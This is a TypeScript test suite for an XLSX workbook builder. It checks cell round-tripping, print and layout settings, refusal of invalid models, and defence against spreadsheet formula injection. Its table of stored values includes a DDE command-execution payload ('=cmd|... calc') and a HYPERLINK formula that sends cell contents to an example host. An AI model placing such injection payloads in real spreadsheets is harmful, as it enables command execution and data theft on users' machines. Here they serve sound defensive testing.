import fc from 'fast-check';
import { readXlsx } from 'hucre/xlsx';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildWorkbook, WorkbookError } from '../../../shared/documents/xlsx/index.ts';
import { languages } from '../../../shared/lib/index.ts';
import type {
  CellModel,
  ColumnModel,
  SheetModel,
  WorkbookModel,
} from '../../../shared/report/index.ts';
import { hostileTexts, sampleWorkbook } from '../../helpers/sampleWorkbook.ts';
import { convert, hasLibreOffice, readParts, readWithLibreOffice } from './readWorkbook.ts';

/** What a cell holds where that is not what was put in. */
const stored = new Map<string, string>([
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  [
    '=HYPERLINK("http://example.test/?"&A1,"open")',
    '\'=HYPERLINK("http://example.test/?"&A1,"open")',
  ],
  ['+1+1', "'+1+1"],
  ['-2+3+cmd|/C', "'-2+3+cmd|/C"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['＝1+1', "'＝1+1"],
  ['  =1+1', "'  =1+1"],
  ['\t=1+1', "'\t=1+1"],
  ['\tled by a tab', "'\tled by a tab"],
  ['\r\n=1+1', "'\n=1+1"],
  ['null\u0000bell\u0007escape\u001Bend', 'null\uFFFDbell\uFFFDescape\uFFFDend'],
  ['lone \uD83D surrogate, \uDE00 and \uFFFF', 'lone \uFFFD surrogate, \uFFFD and \uFFFD'],
  ['line one\r\nline two\rline three\nline four', 'line one\nline two\nline three\nline four'],
]);
const marks = {
  met: '●',
  'partly-met': '◐',
  'not-met': '■',
  undetermined: '◌',
  'not-applicable': '–',
  error: '▲',
};
const cutMarks = {
  en: (n: string) => `… [cut here: ${n} characters in all, a cell holds 32,767]`,
  'zh-CN': (n: string) => `……［此处截断：全文共 ${n} 个字符，单元格最多容纳 32,767 个］`,
};

function expected(
  cell: CellModel,
  column: ColumnModel,
  model: WorkbookModel,
): string | number | null {
  if (cell === null || cell === '') return null;
  if (typeof cell === 'number') return cell;
  if (typeof cell === 'object') return `${marks[cell.outcome]} ${cell.text}`;
  if (column.kind === 'day' && cell === '2026-11-22') return cell;
  if (cell.length <= 32_767) return stored.get(cell) ?? cell;
  const mark = cutMarks[model.language](cell.length.toLocaleString('en'));
  const kept = cell.slice(0, 32_767 - mark.length);
  return (kept.isWellFormed() ? kept : kept.slice(0, -1)) + mark;
}

/** As the column's format shows it. */
function shown(value: string | number | null, column: ColumnModel): string {
  if (value === null) return '';
  if (typeof value === 'string') return value;
  if (column.kind === 'percent' || column.kind === 'score') return `${(value * 100).toFixed(1)}%`;
  if (column.kind === 'integer') return value.toLocaleString('en');
  if (column.kind === 'decimal') return value.toFixed(2);
  return String(value);
}

function plain(value: unknown): unknown {
  return value instanceof Date ? value.toISOString().slice(0, 10) : (value ?? null);
}

/** The index of the head: the first row that holds the first column's head in its first cell. */
function headIndex(rows: readonly (readonly unknown[])[], sheet: SheetModel): number {
  return rows.findIndex((row) => row[0] === sheet.columns[0]?.head);
}

describe.each(languages)('the sample workbook in %s', (language) => {
  const model = sampleWorkbook(language);
  let bytes: Uint8Array;
  beforeAll(async () => {
    bytes = await buildWorkbook(model);
  });

  it('holds every cell, read back with hucre', async () => {
    const book = await readXlsx(bytes);
    expect(book.sheets.map((sheet) => sheet.name).slice(0, 2)).toEqual(
      model.sheets.map((s) => s.name),
    );
    model.sheets.forEach((sheet, index) => {
      const rows = book.sheets[index]?.rows ?? [];
      const head = headIndex(rows, sheet);
      sheet.preface.forEach((line, at) => expect(rows[at]?.[0]).toBe(line));
      expect(rows.length - head - 1).toBe(sheet.rows.length);
      sheet.rows.forEach((row, at) => {
        const found = sheet.columns.map((_, column) => plain(rows[head + 1 + at]?.[column]));
        const wanted = sheet.columns.map((column, c) => expected(row[c] ?? null, column, model));
        expect(found).toEqual(wanted);
      });
    });
  });

  it.skipIf(!hasLibreOffice())(
    'shows every cell in LibreOffice, and nothing computes after CSV',
    async () => {
      const shownSheets = readWithLibreOffice(bytes);
      for (const sheet of model.sheets) {
        const rows = shownSheets.get(sheet.name) ?? [];
        const head = headIndex(rows, sheet);
        expect(head).toBeGreaterThan(0);
        sheet.rows.forEach((row, at) => {
          const found = sheet.columns.map((_, column) => rows[head + 1 + at]?.[column] ?? '');
          const wanted = sheet.columns.map((column, c) =>
            shown(expected(row[c] ?? null, column, model), column),
          );
          expect(found).toEqual(wanted);
        });
      }
      const csv = [...shownSheets.values()]
        .flat()
        .map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(','));
      const opened = convert(
        new TextEncoder().encode([...csv, '=1+1'].join('\r\n')),
        'again.csv',
        'xlsx',
      );
      const parts = readParts(opened.get('again.xlsx') ?? new Uint8Array());
      const sheetXml = parts.get('xl/worksheets/sheet1.xml') ?? '';
      // The one bare line shows that LibreOffice would have computed the others.
      expect(sheetXml.match(/<f[ >]/g)).toHaveLength(1);
    },
    90_000,
  );

  it('holds no formula, and text only as shared strings', () => {
    for (const [path, xml] of readParts(bytes)) {
      if (path.startsWith('xl/worksheets/sheet')) {
        expect(xml).not.toMatch(/<f[ >/]/);
        expect(xml).not.toMatch(/ t="(?!s")/);
      }
      if (path === 'xl/workbook.xml') expect(xml).not.toContain('calcPr');
    }
  });

  it('says how many cells were guarded and cut', async () => {
    const rows = (await readXlsx(bytes)).sheets[1]?.rows ?? [];
    const guarded = [...stored.keys()].filter((text) => stored.get(text)?.startsWith("'")).length;
    expect(rows[1]?.[0]).toContain(` ${guarded * 3} `.trim());
    expect(rows[1]?.[0]).toMatch(language === 'en' ? /apostrophe/ : /撇号/);
    expect(rows[2]?.[0]).toMatch(language === 'en' ? /cut short: 2\./ : /已截断的单元格：2 个/);
  });

  it('is set up to be worked in and printed', async () => {
    const book = await readXlsx(bytes, { readStyles: true });
    const sheet = book.sheets[0];
    const head = headIndex(sheet?.rows ?? [], model.sheets[0] ?? ({ columns: [] } as never));
    const first = head + 2;
    expect(sheet?.freezePane).toEqual({ rows: head + 1, columns: 2 });
    expect(sheet?.autoFilter?.range).toBe(`A${head + 1}:K${head + 25}`);
    expect(sheet?.columns?.map((column) => column.width)).toEqual([
      9, 22, 38, 18, 18, 12, 10, 11, 13, 18, 16,
    ]);
    expect(sheet?.pageSetup).toMatchObject({
      orientation: 'landscape',
      fitToPage: true,
      fitToWidth: 1,
      fitToHeight: 0,
      printTitlesRow: `$${head + 1}:$${head + 1}`,
    });
    expect(sheet?.headerFooter?.oddFooter).toContain(
      language === 'en' ? 'Page &P of &N' : '第 &P 页，共 &N 页',
    );
    expect(sheet?.conditionalRules).toMatchObject([
      { type: 'dataBar', range: `K${first}:K${first + 23}` },
    ]);
    const lists = book.sheets[2];
    expect(lists?.hidden).toBe(true);
    const systems = model.sheets[0]?.columns[4]?.choices ?? [];
    expect(lists?.rows.slice(1).map((row) => row[0])).toEqual(systems);
    expect(sheet?.dataValidations).toMatchObject([
      {
        type: 'list',
        range: `D${first}:D${first + 23}`,
        values: model.sheets[0]?.columns[3]?.choices,
      },
      { type: 'list', range: `E${first}:E${first + 23}`, formula1: `'${lists?.name}'!$A$2:$A$5` },
    ]);
    const comment = sheet?.cells?.get(`${head},5`)?.comment?.text;
    expect(comment).toBe(model.sheets[0]?.columns[5]?.help);
    const font = sheet?.cells?.get(`${head},0`)?.style?.font;
    expect(font).toMatchObject({
      name: language === 'en' ? 'Calibri' : 'Microsoft YaHei',
      bold: true,
    });
  });

  it('carries the day of the data, its language and no clock', async () => {
    const parts = readParts(bytes);
    const core = parts.get('docProps/core.xml') ?? '';
    expect(core).toContain(`<dc:language>${language}</dc:language>`);
    expect(core.match(/2026-11-22T00:00:00Z/g)).toHaveLength(2);
    expect(Buffer.from(await buildWorkbook(sampleWorkbook(language))).equals(bytes)).toBe(true);
    // Time and date of the first entry: midnight, 1 January 1980.
    expect(Array.from(bytes.subarray(10, 14))).toEqual([0, 0, 0x21, 0]);
  });
});

describe('any text', () => {
  it('comes back as it was but for what the README names', async () => {
    const texts = fc.sample(fc.string({ unit: 'binary', minLength: 1, maxLength: 30 }), {
      numRuns: 300,
      seed: 7,
    });
    const led = texts.flatMap((text) =>
      ['=', '+', '-', '@', '\t', '\r', ' =', '_x0041_', '\uFEFF='].map((start) => start + text),
    );
    const all = [...texts, ...led, ...hostileTexts.filter((text) => text.length < 1000)];
    const book = await readXlsx(await buildWorkbook(oneColumn(all)));
    const rows = book.sheets[0]?.rows ?? [];
    const head = rows.findIndex((row) => row[0] === 'Head');
    all.forEach((text, index) => {
      const clean = text
        .replace(/\r\n?/g, '\n')
        // oxlint-disable-next-line no-control-regex -- control characters are what is looked for
        .replace(/[\0-\x08\v\f\x0E-\x1F\uFFFE\uFFFF]/g, '\uFFFD')
        .toWellFormed();
      const found = String(rows[head + 1 + index]?.[0]);
      expect([clean, `'${clean}`]).toContain(found);
      if (/^[\s\uFEFF]*[=@]|^[\t\n]/.test(clean)) expect(found).toBe(`'${clean}`);
      if (/^[\p{L}\p{N}]/u.test(clean)) expect(found).toBe(clean);
    });
  });
});

describe('a workbook that cannot be', () => {
  const refusal = async (model: WorkbookModel, options = {}): Promise<string> => {
    const error = await buildWorkbook(model, options).then(
      () => undefined,
      (reason: unknown) => reason,
    );
    expect(error).toBeInstanceOf(WorkbookError);
    return error instanceof WorkbookError ? `${error.problem}: ${error.message}` : '';
  };
  const named = (...names: string[]): WorkbookModel => {
    const model = oneColumn(['a']);
    return { ...model, sheets: names.map((name) => ({ ...model.sheets[0]!, name })) };
  };

  it.each(['', ' ', 'a'.repeat(32), 'a/b', 'a[b', "'a", "a'", 'History', 'a\u0001'])(
    'is refused for the sheet name %j',
    async (name) =>
      expect(await refusal(named(name))).toMatch(/^sheet-name: Expected a sheet name/),
  );

  it('is refused for names that differ in capitals alone', async () => {
    expect(await refusal(named('Data', 'DATA'))).toContain('found "DATA" twice');
  });

  it('is refused for more rows than a sheet has, with what to do', async () => {
    const model = oneColumn([]);
    const rows = Array.from({ length: 1_048_576 }, (): readonly CellModel[] => []);
    const full = { ...model, sheets: [{ ...model.sheets[0]!, rows }] };
    expect(await refusal(full)).toMatch(/^too-many-rows: .*1,048,576.*export them in parts/);
    expect(await refusal({ ...full, language: 'zh-CN' })).toMatch(/分批导出/);
  });

  it('is refused for a number that is none, for a long row, for no sheet and for a wrong day', async () => {
    expect(await refusal(oneColumn([Number.NaN]))).toMatch(/^number: Sheet "Sheet", cell A2/);
    const model = oneColumn([]);
    const long = { ...model, sheets: [{ ...model.sheets[0]!, rows: [['a', 'b']] }] };
    expect(await refusal(long)).toMatch(/^row-length: .*at most 1 cells, found 2/);
    expect(await refusal({ ...model, sheets: [] })).toMatch(/^no-sheet/);
    expect(await refusal({ ...model, asOf: '2026-02-30' })).toMatch(/^as-of/);
  });

  it('is left when cancelled, and pauses and reports until then', async () => {
    const shares: number[] = [];
    let pauses = 0;
    const model = oneColumn(Array.from({ length: 5000 }, (_, index) => index));
    const options = {
      onProgress: (share: number) => void shares.push(share),
      pause: async () => void (pauses += 1),
    };
    expect(await refusal(model, { ...options, isCancelled: () => pauses === 2 })).toMatch(
      /^cancelled/,
    );
    expect(shares).toHaveLength(2);
    await buildWorkbook(model, options);
    expect(shares.at(-1)).toBe(1);
    expect(shares.slice(2)).toEqual(shares.slice(2).toSorted((a, b) => a - b));
  });
});

function oneColumn(cells: readonly CellModel[]): WorkbookModel {
  const column: ColumnModel = { key: 'a', head: 'Head', width: 20, kind: 'text' };
  const rows = cells.map((cell) => [cell]);
  const sheet: SheetModel = {
    id: 's',
    name: 'Sheet',
    preface: [],
    columns: [column],
    rows,
    frozenColumns: 0,
  };
  return { language: 'en', title: 'T', organisation: 'O', asOf: '2026-11-22', sheets: [sheet] };
}
